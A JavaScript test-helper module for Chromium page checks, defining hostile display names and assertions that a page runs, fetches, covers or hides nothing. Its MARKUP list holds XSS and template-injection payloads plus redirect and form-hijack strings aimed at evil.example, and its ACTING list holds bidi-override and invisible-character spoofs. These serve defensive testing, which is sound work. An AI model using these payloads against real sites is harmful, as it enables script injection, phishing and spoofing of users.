// What somebody would write who means harm, and what a page must not do with it: run, ask, fetch, cover, move or hide.
//
// The checks run in Chromium and look at the page as it is drawn. They know nothing of what a page is about.

import assert from 'node:assert/strict';

/** A name of a single word, longer than any page is wide. */
export const LONG = 'W'.repeat(10_000);
/** Marks piled upon one letter: drawn, they are taller than many rows. */
export const PILE = `Z${'\u0301\u0302\u0303\u0308\u030a\u030b\u030c\u0310\u0312\u0321\u0323\u0324\u0325\u0330\u0331\u0348'.repeat(8)}`;
/** Hebrew, at whose end the numbers that follow change sides. */
export const RIGHT_TO_LEFT = '\u05d0\u05d1\u05d2 \u05d3\u05d4\u05d5';
/** Looks like `paypal`, and is not. */
export const HOMOGRAPH = 'p\u0430yp\u0430l';

/** Markup of every kind: each would call `hurt` if it came to life. */
export const MARKUP = [
  '</td></tr></table></main><script>hurt("script")</script>',
  '</script><script>hurt("end of script")</script>',
  '"><img src=//evil.example/i onerror=hurt("error")>',
  '\' autofocus onfocus=hurt("focus") onmouseover=hurt("mouse") x=\'',
  'javascript:hurt("link")',
  '<a href="javascript:hurt(1)" target=_blank>release</a>',
  '</textarea></title></style><svg onload=hurt("svg")>',
  '<style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/c>',
  'x" style="position:fixed;inset:0;background:url(//evil.example/b)',
  '<base href=//evil.example/><form action=//evil.example/><button formaction=//evil.example/>Release</button>',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '{{constructor.constructor("hurt(7)")()}}${hurt(8)}<%= hurt(9) %>#{hurt(10)}',
  '&#60;script&#62;hurt("entity")&#60;/script&#62;&lt;b&gt;',
  '<iframe srcdoc="<script>parent.hurt(1)</script>"></iframe><object data=//evil.example/o></object>',
];

/** What does something to the text around it, and what nobody sees. */
export const ACTING = [
  'k9\u202egpj.exe\u202c', 'k9\u2066\u2067\u2068\u2069\u200f', 'pay\u200bpal\u200d\u2060\ufeff', 'pay\u00adpal\u034f\u3164', 'k9\0\b\u001b[2J\u0085',
];

/** Everything of the above that a name may be. */
export const NAMES = [...MARKUP, ...ACTING, PILE, RIGHT_TO_LEFT, HOMOGRAPH, LONG];

const INVISIBLE = /[\0-\x08\x0b-\x1f\x7f-\x9f\u00ad\u034f\u061c\u115f\u1160\u200b-\u200f\u2028-\u202e\u2060-\u206f\u3164\ufeff]/u;

/**
 * A page in which nothing may happen by itself. What would have happened is collected: calls of `hurt`, dialogs, windows,
 * what the policy of the page held back (it is not to be needed), errors, requests for addresses of others.
 */
export async function watched(profile, origins) {
  const harm = [];
  await profile.exposeBinding('hurt', (_, how) => { harm.push(`ran: ${how}`); });
  await profile.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => { globalThis.hurt(`held back: ${event.effectiveDirective} ${event.blockedURI}`); });
  });
  const page = await profile.newPage();
  page.on('dialog', (dialog) => { harm.push(`dialog: ${dialog.message()}`); dialog.dismiss(); });
  page.on('popup', (popup) => { harm.push(`window: ${popup.url()}`); });
  page.on('pageerror', (error) => { harm.push(`error: ${error.message}`); });
  page.on('request', (request) => {
    const url = new URL(request.url());
    if (!['data:', 'about:'].includes(url.protocol) && !origins.includes(url.origin)) harm.push(`request: ${url.href.slice(0, 100)}`);
  });
  return { page, assertUnharmed: (where) => { assert.deepEqual(harm, [], where); } };
}

/** Nothing in the text acts, each button can be seen and is what a click at its place meets, and words keep their order. */
export async function assertInItsPlace(page, where) {
  const text = await page.locator('body').innerText();
  const found = INVISIBLE.exec(text);
  assert.equal(found, null, `${where}: ${JSON.stringify(text.slice(Math.max(0, (found?.index ?? 0) - 40), (found?.index ?? 0) + 40))}`);
  assert.deepEqual(await page.evaluate(misplaced), [], where);
}

/** What is not where it should be; runs in the page. */
function misplaced() {
  const problems = [];
  const told = (element) => (element.getAttribute('aria-label') ?? element.textContent).trim().slice(0, 40);
  const wider = document.documentElement.scrollWidth - document.documentElement.clientWidth;
  if (wider > 0) problems.push(`the page is ${wider} pixels too wide`);
  for (const element of document.querySelectorAll('button, a.button, main td a, header a')) {
    if (!element.checkVisibility()) continue;
    element.scrollIntoView({ block: 'center', inline: 'nearest' });
    const scroll = element.closest('.scroll');
    // On a wide screen nobody has to look for a button to the right.
    if (scroll && scroll.clientWidth > 800) scroll.scrollLeft = 0;
    const box = element.getClientRects()[0];
    if (!box) continue;
    const [x, y] = [box.left + box.width / 2, box.top + box.height / 2];
    const met = document.elementFromPoint(x, y);
    if (!met || !element.contains(met)) problems.push(`${told(element)} at ${Math.round(x)}, ${Math.round(y)}: a click meets ${met?.outerHTML.slice(0, 60)}`);
  }
  window.scrollTo(0, 0);
  // Pieces of one line stand in the order in which they are written.
  const range = document.createRange();
  for (const block of document.querySelectorAll('h1, h2, h3, p, td, th, dd, li, label, header.top span')) {
    const walker = document.createTreeWalker(block, NodeFilter.SHOW_TEXT);
    let before;
    for (let node = walker.nextNode(); node; node = walker.nextNode()) {
      if (node.data.trim() === '' || !node.parentElement.checkVisibility()) continue;
      range.selectNodeContents(node);
      const box = range.getClientRects()[0];
      if (!box) continue;
      if (before && Math.abs(before.bottom - box.bottom) < 4 && box.left < before.left) problems.push(`${node.data.slice(0, 30)} stands before what comes before it in ${block.textContent.slice(0, 60)}`);
      before = box;
    }
  }
  return problems;
}

/** Nothing that `element` says is drawn beyond it: its neighbours look the same when it is empty. */
export async function assertCoversNothing(page, element, where) {
  const box = await element.boundingBox();
  const above = { x: box.x, y: Math.max(0, box.y - 120), width: box.width, height: Math.min(box.y, 120) };
  const below = { x: box.x, y: box.y + box.height + 1, width: box.width, height: 120 };
  const look = async () => Promise.all([above, below].map((clip) => page.screenshot({ clip, fullPage: true, animations: 'disabled' })));
  const full = await look();
  await element.evaluate((node) => { node.style.color = 'transparent'; for (const inner of node.querySelectorAll('*')) inner.style.color = 'transparent'; });
  const empty = await look();
  await element.evaluate((node) => { node.style.color = ''; for (const inner of node.querySelectorAll('*')) inner.style.color = ''; });
  for (const [place, before] of full.entries()) assert.ok(before.equals(empty[place]), `${where}: covers what is ${place === 0 ? 'above' : 'below'}`);
}

/** The token that all forms of a page carry: one, and a whole one. */
export async function formToken(page) {
  const forms = await page.locator('form[method="post"]').count();
  const tokens = await page.locator('form[method="post"] input[name="token"]').evaluateAll((inputs) => inputs.map(({ value }) => value));
  assert.equal(tokens.length, forms);
  assert.equal(new Set(tokens).size, 1);
  assert.match(tokens[0], /^[0-9a-f]{64}$/);
  return tokens[0];
}
